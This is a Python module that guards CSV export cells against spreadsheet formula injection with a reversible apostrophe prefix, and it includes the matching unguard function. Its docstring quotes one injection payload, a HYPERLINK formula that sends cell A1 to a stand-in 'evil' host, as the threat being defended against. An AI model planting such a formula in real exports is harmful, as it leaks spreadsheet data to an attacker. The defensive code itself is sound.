"""Keep CSV cells from becoming live spreadsheet formulas, reversibly (see docs/adr/0002).

Excel and LibreOffice evaluate a cell whose text starts with `=`, `+`, `-` or `@` as a formula, and
strip a leading tab or carriage return before doing the same (OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection). A comment typed as
`=HYPERLINK("http://evil/?"&A1,"click")` would otherwise run when a reviewer opens the export.

The guard prefixes such a cell with one apostrophe, which both spreadsheets treat as "this is text"
and do not display. To make the guard exactly reversible on import, a cell that already starts
with apostrophes followed by a trigger character (`'=x`, `''+y`) is guarded too:

    guard:   prefix one `'` when the text, after any leading `'`, starts with a trigger;
    unguard: strip one `'` when the text starts with `'` and, after all its leading `'`,
             a trigger follows.

Every exported text maps back to its original, and text that needed no guard is never touched.
The project database always keeps the original text; the guard exists only in the CSV.
"""

from __future__ import annotations

FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
# Cells starting with any of these need a closer look; everything else passes in one set lookup.
SUSPECT_FIRST_CHARS: frozenset[str] = frozenset((*FORMULA_TRIGGERS, "'"))


def guard_cell(text: str) -> str:
    """Return `text` as it must appear in a CSV cell so that no spreadsheet evaluates it."""
    # `""[:1]` is `""`, which is not in the set: empty cells pass without a separate test.
    if text[:1] not in SUSPECT_FIRST_CHARS:
        return text
    if text[0] == "'" and not text.lstrip("'").startswith(FORMULA_TRIGGERS):
        return text
    return "'" + text


def unguard_cell(text: str) -> str:
    """Undo `guard_cell`: the original text of a cell read back from an exported CSV."""
    if text[:1] == "'" and text.lstrip("'").startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text
